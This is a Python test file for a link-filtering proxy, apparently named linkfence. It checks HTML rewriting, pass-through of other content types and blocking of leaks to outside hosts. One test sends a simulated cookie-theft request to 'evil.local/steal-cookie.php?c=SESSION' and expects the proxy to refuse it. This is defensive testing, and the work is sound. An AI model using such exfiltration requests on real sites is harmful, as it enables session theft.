"""End-to-end proxy behavior over real sockets against canned origins."""
from __future__ import annotations

import gzip
import hashlib
import json

from linkfence.inject import MARKER

SITE_PAGE = (
    "<html><head><title>site</title></head><body>"
    '<img src="http://evil.local/tracker.gif">'
    '<img src="/banner.png">'
    "</body></html>"
)


def aliases_for(backend, *hosts):
    return {host: backend.address for host in hosts}


def test_html_rewritten_and_inventoried(backend, make_proxy):
    backend.add("/", SITE_PAGE)
    put = make_proxy(aliases_for(backend, "www.site.local", "evil.local"))
    status, headers, body = put.get("http://www.site.local/")
    assert status == 200
    text = body.decode()
    assert text.count(MARKER) == 1
    assert int(headers["content-length"]) == len(body)
    ctx = put.engine.contexts_snapshot()
    assert len(ctx) == 1 and ctx[0]["n"] == 1  # one external, one local link


def test_non_html_byte_identical(backend, make_proxy):
    blobs = {
        "/img.png": bytes(range(256)) * 64,
        "/data.json": json.dumps({"k": list(range(50))}).encode(),
        "/archive.bin": hashlib.sha256(b"seed").digest() * 1000,
    }
    for path, blob in blobs.items():
        backend.add(path, blob, content_type="application/octet-stream")
    put = make_proxy(aliases_for(backend, "www.site.local"))
    for path, blob in blobs.items():
        status, _, body = put.get(f"http://www.site.local{path}")
        assert status == 200
        assert hashlib.sha256(body).digest() == hashlib.sha256(blob).digest()


def test_gzip_html_is_decompressed_and_rewritten(backend, make_proxy):
    backend.add("/", SITE_PAGE, gzip_body=True)
    put = make_proxy(aliases_for(backend, "www.site.local"))
    status, headers, body = put.get("http://www.site.local/")
    assert status == 200
    assert "content-encoding" not in headers
    assert MARKER in body.decode()


def test_latin1_charset_preserved_through_rewrite(backend, make_proxy):
    doc = "<html><head><title>caf\xe9</title></head><body>na\xefve</body></html>"
    backend.add("/", doc.encode("latin-1"), content_type="text/html; charset=iso-8859-1")
    put = make_proxy(aliases_for(backend, "www.site.local"))
    status, _, body = put.get("http://www.site.local/")
    assert status == 200
    text = body.decode("iso-8859-1")
    assert MARKER in text
    assert "caf\xe9" in text and "na\xefve" in text


def test_duplicate_set_cookie_headers_forwarded(backend, make_proxy):
    # the Backend helper sets one extra header dict; add the second cookie
    # via a raw header tuple by exploiting route.headers insertion order
    route = backend.add("/login", b"ok", content_type="text/plain")
    route.headers["Set-Cookie"] = "a=1; Path=/"
    put = make_proxy(aliases_for(backend, "www.site.local"))
    status, headers, _ = put.get("http://www.site.local/login")
    assert status == 200
    assert headers["set-cookie"] == "a=1; Path=/"


def test_corrupt_gzip_passes_through(backend, make_proxy):
    backend.add("/", b"\x1f\x8bnot really gzip", content_type="text/html",
                headers={"Content-Encoding": "gzip"})
    put = make_proxy(aliases_for(backend, "www.site.local"))
    status, _, body = put.get("http://www.site.local/")
    assert status == 200
    assert body == b"\x1f\x8bnot really gzip"
    assert put.engine.counters["decompress_failures"] == 1


def test_css_extraction_feeds_parent_context(backend, make_proxy):
    backend.add("/", '<html><head><link rel="stylesheet" href="/s.css"></head></html>')
    backend.add("/s.css", "body { background: url(http://cdn.elsewhere.example/bg.png) }",
                content_type="text/css")
    put = make_proxy(aliases_for(backend, "www.site.local"))
    put.get("http://www.site.local/")
    status, _, body = put.get("http://www.site.local/s.css", referer="http://www.site.local/")
    assert status == 200
    assert b"url(" in body  # stylesheet bytes untouched
    snap = put.engine.contexts_snapshot()
    assert snap[0]["n"] == 1


def test_deny_is_403_with_reason_header(backend, make_proxy):
    backend.add("/", SITE_PAGE)
    put = make_proxy(aliases_for(backend, "www.site.local", "evil.local"),
                     alert_timeout_secs=0.1)
    put.get("http://www.site.local/")
    status, headers, _ = put.get(
        "http://evil.local/steal-cookie.php?c=SESSION", referer="http://www.site.local/"
    )
    assert status == 403
    assert headers["x-filter-reason"] == "no-rule"


def test_upstream_failure_yields_502(make_proxy):
    put = make_proxy({"dead.local": ("127.0.0.1", 1)})  # nothing listens there
    status, _, body = put.get("http://dead.local/x")
    assert status == 502
    assert b"upstream connection failure" in body


def test_leakage_denial_reason_header(backend, make_proxy):
    page = "<html><body>" + "".join(
        f'<img src="http://evil{i}.local/p{i}.jpg">' for i in range(1, 9)
    ) + "</body></html>"
    backend.add("/", page)
    for i in range(1, 9):
        backend.add(f"/p{i}.jpg", b"GIF89a", content_type="image/gif")
    hosts = ["www.site.local"] + [f"evil{i}.local" for i in range(1, 9)]
    put = make_proxy(aliases_for(backend, *hosts), threshold_bits=11)
    put.get("http://www.site.local/")
    statuses = []
    for i in range(1, 9):
        status, headers, _ = put.get(
            f"http://evil{i}.local/p{i}.jpg", referer="http://www.site.local/"
        )
        statuses.append((status, headers.get("x-filter-reason")))
    assert statuses[:4] == [(200, None)] * 4
    assert statuses[4:] == [(403, "leakage-threshold")] * 4


def test_oversized_html_passes_through_unrewritten(backend, make_proxy):
    big = "<html><head></head><body>" + "x" * 5000 + "</body></html>"
    backend.add("/", big)
    put = make_proxy(aliases_for(backend, "www.site.local"), max_body_bytes=1024)
    status, _, body = put.get("http://www.site.local/")
    assert status == 200
    assert body.decode() == big  # no marker, no mutation
    assert put.engine.counters["oversized_bodies"] == 1


def test_post_body_forwarded(backend, make_proxy):
    backend.add("/submit", "<html><head></head><body>ok</body></html>")
    put = make_proxy(aliases_for(backend, "www.site.local"))
    status, _, _ = put.request(
        "POST", "http://www.site.local/submit",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
        body=b"a=1&b=2",
    )
    assert status == 200
    method, path, headers = backend.requests[-1]
    assert method == "POST" and path == "/submit"


def test_head_request(backend, make_proxy):
    backend.add("/x", b"12345", content_type="application/octet-stream")
    put = make_proxy(aliases_for(backend, "www.site.local"))
    status, headers, body = put.request("HEAD", "http://www.site.local/x")
    assert status == 200
    assert body == b""
    assert headers["content-length"] == "5"  # mirrors what a GET would say


def test_malformed_proxy_target_400(backend, make_proxy):
    put = make_proxy({})
    conn_status, _, _ = put.request("GET", "/origin-form-without-host", headers={"Host": ""})
    assert conn_status == 400


def test_connect_tunnel_opaque(backend, make_proxy):
    # CONNECT relays raw bytes both ways without inspection; drive plain
    # HTTP through the tunnel and check nothing was analyzed or rewritten.
    backend.add("/t", "<html><head></head><body>tunneled</body></html>")
    put = make_proxy({"tunnel.local": backend.address})
    import socket

    with socket.create_connection(put.address, timeout=10) as sock:
        sock.sendall(b"CONNECT tunnel.local:443 HTTP/1.1\r\nHost: tunnel.local:443\r\n\r\n")
        reply = sock.recv(4096)
        assert reply.startswith(b"HTTP/1.1 200")
        sock.sendall(b"GET /t HTTP/1.1\r\nHost: tunnel.local\r\nConnection: close\r\n\r\n")
        data = b""
        while True:
            chunk = sock.recv(4096)
            if not chunk:
                break
            data += chunk
    assert b"tunneled" in data
    assert b"data-linkfence-guard" not in data  # opaque: no injection
    assert put.engine.contexts_snapshot() == []  # and no analysis


def test_upstream_referer_forwarded(backend, make_proxy):
    backend.add("/", SITE_PAGE)
    backend.add("/tracker.gif", b"GIF89a", content_type="image/gif")
    put = make_proxy(aliases_for(backend, "www.site.local", "evil.local"))
    put.get("http://www.site.local/")
    put.get("http://evil.local/tracker.gif", referer="http://www.site.local/")
    method, path, headers = backend.requests[-1]
    assert path == "/tracker.gif"
    assert headers.get("Referer") == "http://www.site.local/"
